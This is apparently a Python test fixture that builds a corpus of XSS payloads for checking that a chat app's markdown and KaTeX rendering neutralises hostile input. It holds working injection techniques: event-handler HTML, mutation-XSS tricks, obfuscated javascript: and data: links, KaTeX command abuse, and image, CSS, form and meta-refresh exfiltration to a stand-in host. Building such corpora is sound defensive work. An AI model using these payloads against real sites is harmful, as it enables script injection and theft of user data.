"""Hostile text for the browser XSS corpus (tests/browser/test_xss_corpus.py).

Every payload that could run script sets the canary ``window.xssCanary = "<its name>"`` when it
runs, and every payload that could make the browser fetch something points at EXFIL_HOST
(203.0.113.9, TEST-NET-3: never routed; the browser must simply never try), with the payload's
name in the URL. So a failure says which payload got through and how.

Each payload also says what a reader must still see when it is rendered as markdown
(``shown``): the literal markup for raw HTML, the link text for a refused link, the alt text for
an image. Where the text is shown as plain text (user bubbles, titles, display names) the reader
sees the payload itself.

The canary is not named ``__xss``: underscores would be read as markdown emphasis, which changes
what the reader sees, not what runs.
"""

from __future__ import annotations

from dataclasses import dataclass

EXFIL_HOST = "203.0.113.9"
CANARY = "xssCanary"

# Deep nesting that must neither freeze nor crash the page.
NESTED_QUOTE_DEPTH = 5_000
NESTED_LIST_DEPTH = 1_000
PARSER_BREAKING_QUOTE_DEPTH = 10_000
LONG_BYTES = 100 * 1024


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    # Substrings a reader must see when the text is rendered as markdown (model replies,
    # imported replies). Empty: only the generic checks apply.
    shown: tuple[str, ...] = ()
    # Large payloads get a reply of their own and are not used as titles or display names.
    big: bool = False

    @property
    def marker(self) -> str:
        """A plain-text paragraph put before the payload when several share one message."""
        return f"PAYLOAD {self.name} BEGIN"


def run(name: str) -> str:
    """The JS a payload runs: sets the canary to its own name."""
    return f"{CANARY}='{name}'"


def exfil(name: str, ext: str = "png") -> str:
    return f"http://{EXFIL_HOST}/{name}.{ext}?q=secret"


def _raw(name: str, text: str, **kwargs) -> Payload:
    """Raw HTML: react-markdown must show it as the literal text."""
    return Payload(name, text, shown=(text,), **kwargs)


def _long() -> str:
    unit = (
        "Lorem **ipsum** dolor `sit` amet, <img src=x onerror=\"xssCanary='long-100kb'\"> "
        "[consectetur](javascript:xssCanary='long-100kb') adipiscing elit.\n\n"
    )
    body = unit * (LONG_BYTES // len(unit) + 1)
    return "long-100kb start\n\n" + body + "long-100kb end"


def _payloads() -> list[Payload]:
    p: list[Payload] = [
        # ---- raw HTML with event handlers ----
        _raw(
            "img-onerror",
            f'<img src="{exfil("img-onerror")}" onerror="{run("img-onerror")}">',
        ),
        _raw("body-onload", f'<body onload="{run("body-onload")}">body-onload</body>'),
        _raw(
            "details-ontoggle",
            f'<details open ontoggle="{run("details-ontoggle")}"><summary>s</summary></details>',
        ),
        _raw(
            "comment-mxss",
            f'<!--><img src=x onerror="{run("comment-mxss")}">-->',
        ),
        _raw(
            "noscript-mxss",
            f'<noscript><p title="</noscript><img src=x onerror={run("noscript-mxss")}>">',
        ),
        _raw(
            "math-mxss",
            "<math><mtext><table><mglyph><style><img src=x "
            f'onerror="{run("math-mxss")}"></style></mglyph></table></mtext></math>',
        ),
        _raw("img-srcset", f'<img srcset="{exfil("img-srcset")} 1x" alt=img-srcset>'),
        # ---- script, frames, svg ----
        _raw("script", f"<script>{run('script')}</script>"),
        _raw(
            "iframe-srcdoc",
            f'<iframe srcdoc="<script>parent.{run("iframe-srcdoc")}</script>"></iframe>',
        ),
        _raw("svg-script", f"<svg><script>{run('svg-script')}</script></svg>"),
        _raw("svg-onload", f'<svg onload="{run("svg-onload")}"><circle r=9></circle></svg>'),
        # ---- styles and page-level elements ----
        _raw("style-hide", "<style>body{display:none!important}</style>"),
        _raw(
            "style-restyle",
            "<style>*{color:red!important;background:url("
            f"{exfil('style-restyle')})!important}}</style>",
        ),
        _raw(
            "style-attr-url",
            f'<span style="background:url({exfil("style-attr-url")})">style-attr-url</span>',
        ),
        _raw("object-data", f'<object data="{exfil("object-data", "swf")}"></object>'),
        _raw("embed-src", f'<embed src="{exfil("embed-src", "swf")}">'),
        _raw(
            "form-action",
            f'<form action="http://{EXFIL_HOST}/form-action"><input name=q value=secret>'
            "<button>form-action-submit</button></form>",
        ),
        _raw(
            "meta-refresh",
            f'<meta http-equiv="refresh" content="0;url=http://{EXFIL_HOST}/meta-refresh">',
        ),
        _raw("base-href", f'<base href="http://{EXFIL_HOST}/base-href/">'),
        _raw(
            "link-stylesheet",
            f'<link rel="stylesheet" href="{exfil("link-stylesheet", "css")}">',
        ),
        # ---- links with dangerous schemes: markdown, autolink, HTML ----
        Payload("md-link-js", f"[md-link-js](javascript:{run('md-link-js')})", ("md-link-js",)),
        Payload(
            "md-link-data",
            # <script>top.xssCanary='md-link-data'</script>
            "[md-link-data](data:text/html;base64,"
            "PHNjcmlwdD50b3AueHNzQ2FuYXJ5PSdtZC1saW5rLWRhdGEnPC9zY3JpcHQ+)",
            ("md-link-data",),
        ),
        Payload(
            "md-link-vbscript", "[md-link-vbscript](vbscript:msgbox(1))", ("md-link-vbscript",)
        ),
        Payload(
            "autolink-js",
            f"<javascript:{run('autolink-js')}>",
            (f"javascript:{run('autolink-js')}",),
        ),
        _raw("html-a-js", f'<a href="javascript:{run("html-a-js")}">html-a-js</a>'),
        _raw(
            "html-a-data",
            "<a href=\"data:text/html,<script>top.xssCanary='html-a-data'</script>\">x</a>",
        ),
        _raw("html-a-vbscript", '<a href="vbscript:msgbox(1)">html-a-vbscript</a>'),
        Payload(
            "md-link-title-quote",
            f'[md-link-title-quote](#top "a\\" onmouseover=\\"{run("md-link-title-quote")}")',
            ("md-link-title-quote",),
        ),
        # ---- obfuscated schemes ----
        Payload(
            "entity-js",
            f"[entity-js](jav&#x61;script:{run('entity-js')})",
            ("entity-js",),
        ),
        Payload(
            "tab-entity-js",
            f"[tab-entity-js](java&#x09;script:{run('tab-entity-js')})",
            ("tab-entity-js",),
        ),
        Payload(
            "tab-js",
            f"[tab-js](<java\tscript:{run('tab-js')}>)",
            ("tab-js",),
        ),
        Payload(
            "fullwidth-js",
            # "javascript" in fullwidth letters, then an ASCII colon.
            "[fullwidth-js](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:"
            f"{run('fullwidth-js')})",
            ("fullwidth-js",),
        ),
        Payload(
            "mixed-case-js",
            f"[mixed-case-js](JaVaScRiPt:{run('mixed-case-js')})",
            ("mixed-case-js",),
        ),
        Payload(
            "leading-space-js",
            f"[leading-space-js](<  javascript:{run('leading-space-js')}>)",
            ("leading-space-js",),
        ),
        Payload(
            "entities-to-tags",
            f"&lt;script&gt;{run('entities-to-tags')}&lt;/script&gt; "
            f"&#60;img src=x onerror={run('entities-to-tags')}&#62;",
            (
                f"<script>{run('entities-to-tags')}</script>",
                f"<img src=x onerror={run('entities-to-tags')}>",
            ),
        ),
        Payload(
            "zero-width-rtl",
            "\u202etxt.exe zero-width-rtl \u200b[zero\u200bwidth](\u200bjavascript:"
            f"{run('zero-width-rtl')}) [rtl](java\u200bscript:{run('zero-width-rtl')})",
            ("zero-width-rtl", "zero\u200bwidth", "rtl"),
        ),
        # ---- images to external hosts (markdown) ----
        Payload(
            "md-image-external",
            f"![md-image-external]({exfil('md-image-external')})",
            ("\U0001f5bc md-image-external",),
        ),
        Payload(
            "md-image-reference",
            f"![md-image-reference][leak-ref]\n\n[leak-ref]: {exfil('md-image-reference')}",
            ("\U0001f5bc md-image-reference",),
        ),
        Payload(
            "md-image-protocol-relative",
            f"![md-image-protocol-relative](//{EXFIL_HOST}/md-image-protocol-relative.png)",
            ("\U0001f5bc md-image-protocol-relative",),
        ),
        Payload(
            "md-image-in-link",
            f"[![md-image-in-link]({exfil('md-image-in-link')})](javascript:{run('md-image-in-link')})",
            ("\U0001f5bc md-image-in-link",),
        ),
        # ---- math (KaTeX runs with trust off; the commands trust gates show inert text) ----
        Payload(
            "katex-href",
            f"$\\href{{javascript:{run('katex-href')}}}{{katexhref}}$",
            ("katexhref",),
        ),
        Payload(
            "katex-url-graphics",
            f"$\\url{{javascript:{run('katex-url-graphics')}}}$ "
            f"$\\includegraphics{{{exfil('katex-url-graphics')}}}$",
            # KaTeX sets "'" in text as a typographic quote, as its own \url does.
            ("javascript:xssCanary=", "katex-url-graphics", "[image]"),
        ),
        Payload(
            "katex-html",
            f"$\\htmlStyle{{background:url({exfil('katex-html')})}}{{katexstyle}}$ "
            f"$\\htmlData{{onclick={run('katex-html')}}}{{katexdata}}$",
            ("katexstyle", "katexdata"),
        ),
        Payload(
            "katex-href-exfil",
            f"$\\href{{http://{EXFIL_HOST}/katex-href-exfil.png?q=a%20b#frag}}{{katexhrefexfil}}$ "
            f"$$\\text{{read \\href{{javascript:{run('katex-href-exfil')}}}{{katex text mode}} "
            "here}$$",
            ("katexhrefexfil", "read katex text mode here"),
        ),
        Payload(
            "katex-url-exfil",
            f"$\\url{{http://{EXFIL_HOST}/katex-url-exfil.png?q=a%20b_c~d&e}}$",
            (f"http://{EXFIL_HOST}/katex-url-exfil.png?q=a%20b_c~d&e",),
        ),
        Payload(
            "katex-class-id",
            # The app's own class and test id: a formula must not be able to claim them.
            "$\\htmlClass{chat-shell}{katexclass}$ $\\htmlId{composer-input}{katexid}$",
            ("katexclass", "katexid"),
        ),
        Payload(
            "katex-graphics-alt",
            f"$\\includegraphics[height=2em,alt=katex picture]{{{exfil('katex-graphics-alt')}}}$",
            ("[image: katex picture]",),
        ),
        Payload(
            "katex-color",
            f"$\\color{{red;background:url({exfil('katex-color')})}}{{katexcolor}}$",
        ),
        # ---- size and depth ----
        Payload("long-100kb", _long(), ("long-100kb start", "long-100kb end"), big=True),
        Payload(
            "nested-quotes",
            ">" * NESTED_QUOTE_DEPTH + " nested-quotes-end",
            ("nested-quotes-end",),
            big=True,
        ),
        Payload(
            # Deeper than the parser survives (remark-gfm recurses): that one message must fall
            # back to plain text, the page must stay up.
            "nested-quotes-10k",
            ">" * PARSER_BREAKING_QUOTE_DEPTH + " nested-quotes-10k-end",
            ("nested-quotes-10k-end",),
            big=True,
        ),
        Payload(
            "nested-lists",
            "- " * NESTED_LIST_DEPTH + "nested-lists-end",
            ("nested-lists-end",),
            big=True,
        ),
    ]
    return p


PAYLOADS: list[Payload] = _payloads()
BY_NAME: dict[str, Payload] = {p.name: p for p in PAYLOADS}
SMALL: list[Payload] = [p for p in PAYLOADS if not p.big]
BIG: list[Payload] = [p for p in PAYLOADS if p.big]
# Rendered as plain text by the markdown error boundary; everything else renders as markdown.
FALLS_BACK_TO_TEXT = {"nested-quotes-10k"}
# KaTeX commands that its `trust` option gates (\\href, \\url, \\html*, \\includegraphics): they
# must show their text with no link, no fetch and no red error. (katex-color is a plain invalid
# colour: KaTeX shows that formula as a red error, which is correct.)
KATEX_TRUST_GATED: list[Payload] = [
    BY_NAME[name]
    for name in (
        "katex-href",
        "katex-url-graphics",
        "katex-html",
        "katex-href-exfil",
        "katex-url-exfil",
        "katex-class-id",
        "katex-graphics-alt",
    )
]


def batches(payloads: list[Payload], size: int) -> list[list[Payload]]:
    return [payloads[i : i + size] for i in range(0, len(payloads), size)]


def as_markdown(batch: list[Payload]) -> str:
    """Several payloads in one message, each after its marker paragraph."""
    return "\n\n".join(f"{p.marker}\n\n{p.text}" for p in batch) + "\n\nPAYLOADS END"


__all__ = [
    "BIG",
    "BY_NAME",
    "CANARY",
    "EXFIL_HOST",
    "FALLS_BACK_TO_TEXT",
    "KATEX_TRUST_GATED",
    "PAYLOADS",
    "SMALL",
    "Payload",
    "as_markdown",
    "batches",
]
